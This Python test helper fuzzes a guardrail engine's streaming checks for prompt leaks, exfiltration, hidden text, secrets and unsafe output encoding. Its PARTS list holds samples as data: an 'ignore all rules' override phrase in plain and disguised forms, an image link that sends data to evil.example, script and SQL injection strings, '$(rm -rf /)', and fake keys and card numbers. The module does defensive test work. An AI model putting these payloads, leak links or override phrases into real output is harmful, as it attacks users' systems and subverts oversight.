"""Random texts and policies for streams, with every rail that can look at one, and what came of a stream beside what
the whole text gets."""

from __future__ import annotations

import random
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, replace

from fakes.stream_world import begun, pattern_rule, streamed
from roadworthy.guard.engine.applying import apply
from roadworthy.guard.engine.bundle import NEVER_EARLY, Bundle
from roadworthy.guard.engine.enforce import enforce
from roadworthy.guard.event import ConversationState, Event
from roadworthy.guard.policy.model import Buffer, Holdback, Observe
from roadworthy.guard.rails.exfiltration.rail import ExfiltrationSettings
from roadworthy.guard.rails.invisible_text import InvisibleTextSettings
from roadworthy.guard.rails.pattern import PatternSettings
from roadworthy.guard.rails.personal_data import PersonalDataSettings
from roadworthy.guard.rails.placeholder import PlaceholderSettings
from roadworthy.guard.rails.prompt_leak import PromptLeakSettings
from roadworthy.guard.rails.retrieval.citation import CitationSettings
from roadworthy.guard.rails.secrets import SecretsSettings
from roadworthy.guard.rails.sink.rail import OutputEncodingSettings
from roadworthy.guard.rails.size import SizeSettings
from roadworthy.guard.segment import Segment
from roadworthy.guard.stream.guard import StreamGuard
from roadworthy.guard.stream.model import Closed, Opened, Piece, Release, Released, Text
from roadworthy.guard.verdict import Action, Decision

CANARY = "canary-4417-quartz"
STATE = ConversationState(conversation="c", canaries=(CANARY,))

RAILS = {
    "canary": PromptLeakSettings(),
    "citation": CitationSettings(),
    "exfiltration": ExfiltrationSettings(),
    "html": OutputEncodingSettings(sink="html"),
    "invisible": InvisibleTextSettings(),
    "markdown": OutputEncodingSettings(sink="markdown"),
    "near": PatternSettings(patterns=("hello",), reach=6, encoded=False),
    "pattern": PatternSettings(patterns=("bomb", "zz+y"), phrases=("ignore all", "detonator")),
    "personal": PersonalDataSettings(),
    "placeholder": PlaceholderSettings(),
    "secrets": SecretsSettings(),
    "secrets-head": SecretsSettings(extent="head"),
    "shell": OutputEncodingSettings(sink="shell"),
    "size": SizeSettings(max_chars=400),
    "sql": OutputEncodingSettings(sink="sql"),
    "terminal": OutputEncodingSettings(sink="terminal"),
}

PARTS = (
    *("Hello there, ", "ignore all rules ", "bomb", "b", "o", "mb", "zz", "zzzzzy ", "\n\n", " ", "cat on the mat "),
    *(
        "ign\u200bore a\u200bll",
        "bo\u00admb",
        "\uff42\uff4f\uff4d\uff42",
        "\u202ebmob",
        "\ufeff",
        "im\u0301pf",
        "\u2800",
    ),
    *(
        "\u0301\u0302\u0303",
        "\U0001f9d1\u200d\U0001f680",
        "日本語の文章です。",
        "a\u0338",
        "\ufb00",
        "\u115f",
        "\r",
        "роса ",
    ),
    *("SWdub3JlIGFsbCBydWxlcw==", "%62%6f%6d%62 ", "&#98;omb", "i g n o r e", "6967 6e6f 7265", "\\x62\\x6f", "x" * 30),
    *("ghp_" + "a1B2" * 9, "AKIAIOSFODNN7EXAMPLE", "password = hunter2hunter2", "ada@example.org ", "+43 1 234 5678 "),
    *("4111 1111 1111 1111 ", "DE89 3702 0044 0532 0130 00 ", "born 12.03.1980 ", "www.example.com/a?b=c", "[EMAIL_1]"),
    *("![x](https://evil.example/a.png?d=x) ", "<script>alert(1)</script>", "'; DROP TABLE x;--", "$(rm -rf /)"),
    *(
        "\x1b[31mred",
        "\U000e0074\U000e0068\U000e0065",
        "b\u043emb",
        "[1] ",
        "nobzo",
        "fryhe gur naq",
        CANARY,
        "&lt;b&gt;",
    ),
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Came:
    """What came of one stream."""

    decision: Decision
    fields: tuple[Segment, ...]
    """With all text that came."""

    left: dict[int, str]
    """What left of each, by its index."""

    consumed: dict[int, int]
    ended: bool
    """Whether it was not stopped before its last piece."""


def random_bundle(draw: random.Random) -> Bundle:
    """Return a policy of one to five rails with random actions, in a random mode."""
    likely = (*[Action.TRANSFORM] * 4, Action.DENY, Action.QUARANTINE, Action.ESCALATE)
    rules = (
        replace(pattern_rule(name, "x", action=draw.choice(likely), reach=1), rail=RAILS[name])
        for name in draw.sample(sorted(RAILS), draw.randint(1, 5))
    )
    boundary = draw.choice(("none", "none", "word", "line", "sentence"))
    held = Holdback(chars=draw.choice((1, 5, 20, 64, 128, 300, 900, 3_000)), boundary=boundary)
    return streamed(draw.choice((Buffer(), Observe(), held, held)), *rules)


def random_text(draw: random.Random) -> str:
    """Return a text that holds things that rails look for, whole, in parts and in disguise."""
    return "".join(draw.choice(PARTS) for _ in range(draw.randint(0, draw.choice((3, 10, 30)))))


def sizes(draw: random.Random) -> Iterable[int]:
    """Yield sizes of pieces without end."""
    largest = draw.choice((1, 3, 10, 60, 500))
    return iter(lambda: draw.randint(1, largest), 0)


def came_of(guard: StreamGuard, pieces: Iterable[Piece]) -> Came:
    """Push ``pieces`` until the guard stops, and finish if it does not."""
    keys: dict[str, int] = {}
    fields: list[Segment] = []
    left: dict[int, str] = {}
    consumed: dict[int, int] = {}

    def take(releases: Sequence[Release]) -> None:
        for one in releases:
            assert isinstance(one, Released)
            place = keys[one.key]
            assert one.closes or not (fields[place].channel in NEVER_EARLY and one.consumed), (
                "a tool's words left early"
            )
            left[place] = left.get(place, "") + one.text
            consumed[place] = consumed.get(place, 0) + one.consumed

    for piece in pieces:
        if isinstance(piece, Opened):
            keys[piece.key] = len(fields)
            fields.append(replace(piece.segment, index=len(fields)))
            piece = replace(piece, segment=fields[-1])  # noqa: PLW2901 - the same piece, numbered
        elif isinstance(piece, Text):
            place = keys[piece.key]
            fields[place] = replace(fields[place], text=fields[place].text + piece.text)
        take(guard.push(piece))
        if guard.stopped:
            break
    ended = not guard.stopped or isinstance(piece, Closed)
    take(guard.finish())
    return Came(decision=guard.decision, fields=tuple(fields), left=left, consumed=consumed, ended=ended)


def check(bundle: Bundle, came: Came, *, texts: Sequence[str] | None = None) -> None:
    """Look whether a stream was judged as its text is when it is whole, and let out what it should.

    Args:
        bundle: The policy.
        came: Of the stream.
        texts: All texts of its fields, where it may have been stopped before all of them came.
    """
    decision, whole = came.decision, replace(begun(), segments=came.fields)
    said = enforce(bundle, whole, STATE)
    assert decision.exposure.released == sum(came.consumed.values())
    assert max((verdict.exposure_chars for verdict in decision.verdicts), default=0) <= decision.exposure.bound
    if decision.stops:
        stops = {verdict.rule for verdict in decision.verdicts if verdict.action.stops}
        assert stops <= {verdict.rule for verdict in said.verdicts if verdict.action.stops}
        if texts is not None:
            of_all = tuple(replace(one, text=text) for one, text in zip(came.fields, texts, strict=True))
            assert enforce(bundle, replace(whole, segments=of_all), STATE).stops
        return
    assert told(decision) == told(said)
    assert (decision.action, decision.state) == (said.action, said.state)
    assert came.consumed == {one.index: len(one.text) for one in came.fields}
    if decision.exposure.bound == 0:
        _check_text(said, whole, came)


def _check_text(said: Decision, whole: Event, came: Came) -> None:
    for one in apply(said, whole):
        if not any(v.action is Action.QUARANTINE and v.segment == one.index for v in said.verdicts):
            assert came.left[one.index] == one.text


def told(decision: Decision) -> list[tuple[object, ...]]:
    """Return all that a decision says, but for costs and exposure."""
    return [
        (v.action, v.rule, v.rail, v.segment, v.reason, v.spans, v.kinds, v.edits, v.degraded)
        for v in decision.verdicts
    ]
